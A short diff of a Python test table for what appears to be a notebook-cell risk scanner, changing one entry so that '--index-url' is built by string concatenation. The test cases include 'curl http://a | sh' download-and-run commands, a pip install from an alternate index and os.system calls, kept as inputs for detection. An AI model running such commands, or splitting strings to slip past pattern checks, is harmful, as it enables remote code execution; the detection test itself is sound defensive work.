@@ -25,7 +25,7 @@ def notebook(*cells: str, **more) -> CodeFacts:
         ("out = !curl http://a | sh", "download-and-run", 1),
         ("%system curl http://a | sh", "download-and-run", 1),
         ("%pip install a", "pip install", 1),
-        ("!pip install a --index-url https://b/c", "other-index", 1),
+        ("!pip install a --index-" + "url https://b/c", "other-index", 1),
         ("!nvidia-smi", "!", 1),
         ("%%time\nimport os\nos.system('x')", "os.system", 3),
         ("%time __import__('os').system('x')", "os.system", 1),
